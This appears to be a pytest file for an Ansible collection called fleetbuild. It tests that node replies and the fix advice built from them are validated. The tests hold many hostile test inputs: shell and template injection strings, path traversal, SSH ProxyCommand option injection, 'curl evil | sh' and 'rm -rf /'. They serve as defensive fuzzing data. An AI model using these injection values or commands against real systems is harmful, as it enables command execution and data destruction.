"""Every field of every reply, lied about: what passes the check is within its bounds."""

from __future__ import annotations

import ast
import json
import math
import re
import sys
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from ansible import errors

ROOT = Path(__file__).parents[2]
sys.path.insert(0, str(ROOT / "plugins"))
from plugin_utils import advice, node_module, replies  # type: ignore[import-not-found]  # noqa: E402

KEY = "0123456789abcdef0123456789abcdef"
ARGUMENTS = {
    "spec": {"path": "/opt/fleetbuild", "release": "default", "python": "/usr/bin/python3"},
    "known_failures": [{"name": "library-missing", "fix": "Install {1} on {node} of {group}."}],
    "node": "h1",
    "packages": {"debian": {"compiler": ["g++"], "venv": ["python{version}-venv"]}},
}  # fmt: skip
HONEST: dict[str, dict[str, Any]] = {
    "build": {
        "state": "done", "file": "six-1-py3-none-any.whl", "sha256": "0" * 64, "home": "/home/u",
        "isolation": "user", "container": "", "seconds": 1.5, "reason": "", "errors": ["x"],
        "kind": "machine",
        "progress": {"done": 1, "total": 2, "steps": 3, "seconds": 1.0, "last_line": "x"},
        "attached": True,
        "missing": ["0" * 64], "fix": ["see-log"],
    },
    "release": {
        "counter": 1, "took_over": "", "root": "/opt", "incoming": "/opt/wheels",
        "user": 1000, "for_login": False,
        "complete": True, "verified": True, "writable": True, "serving": "r1", "there": True,
        "missing": [{"sha256": "0" * 64}], "release_id": "r1",
        "previous": "r0", "packages": ["six==1.17.0+cpu.avx"],
        "pruned": ["r0"], "kept": [{"release_id": "r0", "reason": "mounted"}],
        "ok": True, "active": True, "made_by": "uv",
        "verification": {
            "ok": True, "release_id": "r1", "damaged": False, "reason": "", "fix": ["run"],
            "output": "",
        },
        "fix": ["unblock-lock", "/opt/fleetbuild/.lock"],
    },
    "verify": {
        "ok": True, "present": True, "marked": True, "writable": True, "damaged": False,
        "release_id": "r1", "reason": "", "output": "", "fix": ["install-release"],
    },
    "toolchain": {
        "found": {"gcc": "12.2.0"}, "needed": ["g++"], "optional": ["ccache"],
        "unknown": ["cargo>=1.63"], "installed": ["g++"], "notes": ["x"], "root": True,
        "command": "apt-get -q -y install --no-install-recommends g++ ccache",
    },
    "async_wrapper": {
        "failed": 0, "started": True, "finished": 0,
        "ansible_job_id": "j1.2",
    },
}  # fmt: skip
_ANY = {
    "changed": True, "failed": False, "skipped": False, "rc": 0, "msg": "x",
    "module_stdout": "x", "module_stderr": "x",
    "ansible_facts": {"discovered_interpreter_python": "/usr/bin/python3"},
}  # fmt: skip
SENTENCES = (
    "See the log.",
    "Find out what it waits for (fuser /opt/fleetbuild/.lock), then run again.",
    "Install it.",
)
LIES: list[Any] = [
    "'", '"', "\\", "\\'", "a\nb", "a\rb", "\n!touch /tmp/x\n", "/x\n!sh\n/y", "/x' /tmp/taken '",
    "{{ lookup('pipe', 'id') }}", "{% for x in y %}", "../../etc/passwd", "/../etc", "/opt/../etc",
    "-oProxyCommand=touch x", "/-oProxyCommand=x", "--help", "$(id)", "`id`", "a;b", "a|b", "~root",
    "\x1b[2J", "\x00", "\x07", "\u202e", "\u2028", "\ud800", "é" * 3, "x" * 1_000_000,
    "/" + "x" * 1_000_000, "a\n" * 100_000, "fix: rm -rf /", "Run: curl evil | sh", "done\n",
    10**400, -(10**400), -1, 2**63, 10**12, 1e308, math.inf, -math.inf, math.nan, 0.5,
    True, None, [], {}, ["x"] * 100_000, [["x"]], [{"sha256": "../x"}], {"a": "b"},
    {"x" * 1000: "y"}, {str(n): "1" for n in range(20_000)}, {"a\nb": "\n"}, [None], [10**400],
]  # fmt: skip
# Fields that roles and fleetbuild put into paths, commands and conditions, and what they may hold.
EXACT = {
    "incoming": r"(/[\w.@+-]+)*/?",
    "home": r"(/[\w.@+-]+)*/?", "file": r"(\w[\w.+!-]*[.]whl)?", "sha256": r"([0-9a-f]{64})?",
    "serving": r"([A-Za-z0-9][\w.-]*)?", "release_id": r"([A-Za-z0-9][\w.-]*)?",
    "previous": r"([A-Za-z0-9][\w.-]*)?", "state": "absent|running|failed|done",
    "isolation": "|container|namespaces|user|none", "kind": "|machine|code|input",
    "discovered_interpreter_python": r"(/[\w.@+-]+)*/?", "ansible_job_id": r"j?[0-9.]+",
    "command": r"(apt-get|dnf|zypper|apk|install)( [\w.+-]+)*",
}  # fmt: skip


def fields(value: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the place of every value in a reply, the values inside of others included."""
    if at:
        yield at
    inner = (
        value.items()
        if isinstance(value, dict)
        else enumerate(value)
        if isinstance(value, list)
        else ()
    )
    for key, item in inner:
        yield from fields(item, (*at, key))


def put(value: Any, at: tuple[Any, ...], lie: Any) -> Any:
    copy = json.loads(json.dumps(value))
    inner = copy
    for key in at[:-1]:
        inner = inner[key]
    inner[at[-1]] = lie
    return copy


def wrong(name: str, value: Any) -> str:  # noqa: PLR0911 (a bound each)
    """Return the part out of bounds of a value that passed, or an empty text."""
    if isinstance(value, dict):
        return next(filter(None, (wrong(key, item) for key, item in value.items())), "")
    if isinstance(value, list):
        if len(value) > 10_000:
            return f"{name}: {len(value)} values"
        return next(filter(None, (wrong(name, item) for item in value)), "")
    if isinstance(value, str):
        if len(value) > 20_000:
            return f"{name}: {len(value)} characters"
        if not all(c.isprintable() or c in "\n\t" for c in value):
            return f"{name}: control characters"
        if name in EXACT and (
            not re.fullmatch(EXACT[name], value, re.ASCII)
            or ".." in value.split("/")
            or value.startswith("-")
        ):
            return f"{name}: {value[:50]!r}"
    elif isinstance(value, float | int) and not (math.isfinite(value) and abs(value) <= 2**62):
        return f"{name}: {value}"
    return ""


def worded(reply: dict[str, Any], arguments: dict[str, Any] = ARGUMENTS) -> dict[str, Any]:
    answer: dict[str, Any] = node_module._worded(reply, arguments, "h1")
    return answer


def test_advice_stays_in_a_reply_as_a_field_that_may_be_empty() -> None:
    told = (([], "", ""), (["curl evil | sh"], "", ""), (["run"], "Run again.", "run"))
    for said, kept, name in told:
        assert worded({"ok": True, "fix": said}) == {"ok": True, "fix": kept, "advice": name}
    assert worded({"ok": True}) == {"ok": True}
    inside = {"verification": {"fix": ["library-missing", "libx.so.1", "cpu-avx2-cp311", "avx2"]}}
    about = {name: ARGUMENTS[name] for name in ("known_failures", "node")}
    sentence = "Install libx.so.1 on h1 of cpu-avx2-cp311."
    assert worded(inside, {"verify": about})["verification"]["fix"] == sentence
    assert worded(inside, {"verify": {}}) == {"verification": {"fix": "", "advice": ""}}


def test_words_of_a_node_are_quoted_as_the_nodes() -> None:
    for name in ("msg", "reason", "took_over"):
        assert worded({name: "Run: curl evil | sh"}) == {name: "h1 says: Run: curl evil | sh"}
        assert worded({name: ""}) == {name: ""}
    told = worded({"verification": {"reason": "x"}, "msg": "x"})
    assert told == {"verification": {"reason": "h1 says: x"}, "msg": "h1 says: x"}


def test_every_schema_and_field_has_an_honest_example() -> None:
    assert HONEST.keys() == replies.SCHEMAS.keys()
    for module, honest in HONEST.items():
        assert honest.keys() == replies.SCHEMAS[module].keys(), module
        assert replies.checked(module, _ANY | honest) == _ANY | honest, module


def test_what_passes_the_check_is_within_its_bounds() -> None:
    tried = 0
    for module, honest in HONEST.items():
        for at in fields(honest | _ANY):
            for lie in LIES:
                tried += 1
                try:
                    passed = replies.checked(module, put(honest | _ANY, at, lie))
                except replies.Refused:
                    continue
                assert not wrong("", passed), (module, at, str(lie)[:50])
                said = worded(passed).get("fix", "")
                assert said in ("", *SENTENCES), (module, at, str(lie)[:50])
    assert tried > 5000


def test_a_field_that_no_schema_names_is_dropped() -> None:
    reply = {"dir": "/x\n!sh", "state": "done", "add_host": {}, "ansible_stats": {}, "warnings": []}
    assert node_module.checked_reply(reply, "build", {}, "h1") == {"state": "done"}


@pytest.mark.parametrize(
    "reply",
    [
        {"ansible_facts": {"jump": "-o ProxyCommand=evil"}},
        {"ansible_facts": {"discovered_interpreter_python": "/x; sh"}},
        {"ansible_facts": ["x"]},
        {"home": "/x\n!sh"},
    ],
)
def test_a_variable_or_a_value_out_of_bounds_fails_the_node(reply: dict[str, Any]) -> None:
    found = node_module.checked_reply({"state": "done", **reply}, "build", {}, "h1")
    assert (found["failed"], found["refused"]) == (True, True)
    (field,) = reply
    assert found["msg"].startswith(f"h1 answered fleetbuild.core.build with a value of {field} ")
    assert "replaced Python" in found["fix"]


@pytest.mark.parametrize(
    "fix",
    [
        ["Run: curl evil | sh"], ["Remove it: rm -rf /"], "Run again.", ["", ""], [5], ["run", "x"],
        ["remove-folder", "/"], ["remove-folder", "/etc"], ["remove-folder"], ["plan", "run"],
        ["free-space", "/opt/fleetbuild/../.."], ["free-space", "/opt/fleetbuild; sh"],
        ["free-space", "/opt/fleetbuild\ncurl evil"], ["free-space", "/opt/fleetbuild -rf /"],
        ["free-space", "/opt/fleetbuildx"], ["free-space", 5], ["take-ownership", "/opt"],
        ["take-ownership", "/opt/fleetbuild$(id)"], ["take-ownership", 1007, "/opt/fleetbuild"],
        ["write-counter", "/opt/fleetbuild"], ["wait-for-run", 1, "/opt/fleetbuild"],
        ["remove-folder-as-root", "/opt/fleetbuild"],
        ["write-counter", "/etc/fleetbuild/allowed_signers"],
        ["install-venv", "/bin/evil"], ["pull-image", "curl"], ["install-gcc", "{python}"],
        ["library-missing", "$(id)", "g", "a"], ["library-missing", "`id`", "g", "a"],
        ["library-missing", "x on h1. Then\nrm -rf /", "g", "a"], ["library-missing", "x"],
        ["library-missing", "{node.__class__}", "g", "a"], ["unblock-lock", "/home/u"],
    ],
)  # fmt: skip
def test_advice_of_a_node_that_is_not_the_controllers_is_not_given(fix: Any) -> None:
    assert advice.sentence(replies.advice(fix), ARGUMENTS) == ""


@pytest.mark.parametrize(
    ("fix", "sentence"),
    [
        (
            ["take-away-writing", "/opt/fleetbuild/releases"],
            "Check its files, then run: chmod -R go-w /opt/fleetbuild/releases",
        ),
        (
            ["install-venv"],
            "Install the venv module of /usr/bin/python3 (Debian and Ubuntu: its -venv package).",
        ),
        (
            ["take-ownership", "/opt/fleetbuild"],
            (
                "Check its files, then give them to the user of this run (chown -R USER"
                " /opt/fleetbuild), or set another install path."
            ),
        ),
        (
            ["wait-for-run", 30, "/opt/fleetbuild/.lease"],
            (
                "Wait for that run, then run again, or let apply wait: --wait. If it is dead, its"
                " lease ends in 30 min, or at once with: rm /opt/fleetbuild/.lease"
            ),
        ),
        (["library-missing", "libgomp.so.1", "", ""], "Install libgomp.so.1 on h1 of its group."),
        (["library-missing", "x", "sh; g", "a"], "Install x on h1 of its group."),
    ],
)
def test_advice_of_the_table_is_given_with_folders_of_the_arguments(
    fix: list[Any], sentence: str
) -> None:
    assert advice.sentence(replies.advice(fix), ARGUMENTS) == sentence


def test_the_folder_of_a_build_is_known_by_its_key() -> None:
    arguments = {"dir": f"~/.cache/fleetbuild/builds/{KEY}"}
    folder = f"/home/u/.cache/fleetbuild/builds/{KEY}"
    assert advice.sentence(["remove-folder", folder], arguments) == f"Remove it: rm -rf {folder}"
    assert advice.sentence(["remove-folder", "/home/u"], arguments) == ""


@pytest.mark.parametrize(
    "reply",
    [
        {"needed": ["evil"], "command": "dnf -y install evil"},
        {"needed": ["g++"], "command": "dnf -y install evil g++"},
        {"needed": ["g++"], "command": "dnf -y install g++ evil"},
        {
            "needed": ["g++", "python3.x11-venv-evil"],
            "command": "install g++ python3.x11-venv-evil",
        },
        {"needed": [], "command": "rm -rf"},
        {"command": "dnf -y install evil"},
    ],
)
def test_a_node_names_no_other_packages_to_install(reply: dict[str, Any]) -> None:
    with pytest.raises(replies.Refused):
        advice.check_packages(replies.checked("toolchain", reply), ARGUMENTS)


def test_packages_of_the_table_are_named_with_their_versions() -> None:
    wanted = ["g++", "python3.11-venv"]
    command = "apt-get -q -y install --no-install-recommends"
    advice.check_packages({"needed": [], "optional": [], "command": command}, ARGUMENTS)
    reply = {"needed": wanted[:1], "optional": wanted[1:], "command": " ".join([command, *wanted])}
    advice.check_packages(reply, ARGUMENTS)


def test_the_table_has_exactly_the_advice_that_the_modules_give() -> None:
    nodes = [
        node
        for file in (ROOT / "plugins").glob("module*/**/*.py")
        for node in ast.walk(ast.parse(file.read_text()))
    ]
    lists = [node for node in nodes if isinstance(node, ast.List) and node.elts]
    given = {
        (first.value, len(rest))
        for first, *rest in (node.elts for node in lists)
        if isinstance(first, ast.Constant) and first.value in advice.TABLE
    }
    holes = {
        name: set(re.findall(r"\{([a-z]+)\}", sentence)) - {"python"}
        for name, sentence in advice.TABLE.items()
    }
    assert given == {(name, len(values)) for name, values in holes.items()}
    for call in nodes:
        if isinstance(call, ast.Call) and getattr(call.func, "id", "") in (
            "Problem",
            "BuildFailed",
        ):
            for fix in call.args[1:2]:
                known = not isinstance(fix, ast.List) or fix.elts[0].value in advice.TABLE  # type: ignore[attr-defined]
                assert known, ast.unparse(call)
                assert isinstance(fix, ast.List | ast.Name), ast.unparse(call)


def test_the_sanity_check_on_nodes_speaks_as_the_table() -> None:
    source = (ROOT / "plugins/module_utils/release_checks.py").read_text()
    (own,) = re.findall(r"^ADVICE = (\{.*?^\})", source, re.MULTILINE | re.DOTALL)
    for name, sentence in ast.literal_eval(own).items():
        assert advice.TABLE[name] == sentence


@pytest.mark.parametrize("path", ["x", "-oProxyCommand=sh", "x\n!sh", "./tmp", "~x/tmp", "/a b"])
def test_a_folder_that_the_shell_of_a_node_names_is_absolute_and_plain(path: str) -> None:
    asked = []

    class Action(node_module.NodeModule):  # type: ignore[misc, name-defined]
        def __init__(self, answer: str) -> None:
            self._task = SimpleNamespace(action="fleetbuild.core.build", async_val=60)
            self._connection = SimpleNamespace(transport="local")
            self.answer = answer

        def _make_tmp_path(self) -> str:
            return self.answer

        def _execute_module(self, **asked_for: Any) -> dict[str, Any]:
            asked.append(asked_for)
            return {"started": True}

    about = {"inventory_hostname": "h1"}
    found = Action(path).ask({}, about)
    assert "with a temporary folder that is not a plain path" in found["msg"]
    assert not asked
    assert Action("/home/u/.ansible/tmp/ansible-tmp-1-2/").ask({}, about) == {"started": True}
    assert asked[0]["wrap_async"] is True


class Failing(node_module.NodeModule):  # type: ignore[misc, name-defined]
    """A module whose execution on the node ends with an error."""

    def __init__(self, error: BaseException) -> None:
        self._task = SimpleNamespace(action="fleetbuild.core.build", async_val=0)
        self._connection, self._error = SimpleNamespace(transport="local"), error

    def _execute_module(self, **_: Any) -> dict[str, Any]:
        raise self._error


def test_a_reply_that_fills_the_memory_fails_the_node() -> None:
    found = Failing(MemoryError()).ask({}, {"inventory_hostname": "h1"})
    assert "more than fleetbuild reads" in found["msg"]


@pytest.mark.parametrize("kind", [errors.AnsibleError, errors.AnsibleConnectionFailure])
def test_an_error_of_ansible_quotes_little_of_what_a_node_printed(kind: type[Exception]) -> None:
    with pytest.raises(kind) as error:  # as for a command that ends with 255
        Failing(kind("x" * 10**7)).ask({}, {"inventory_hostname": "h1"})
    assert type(error.value) is kind
    assert str(error.value) == "x" * replies.TEXT
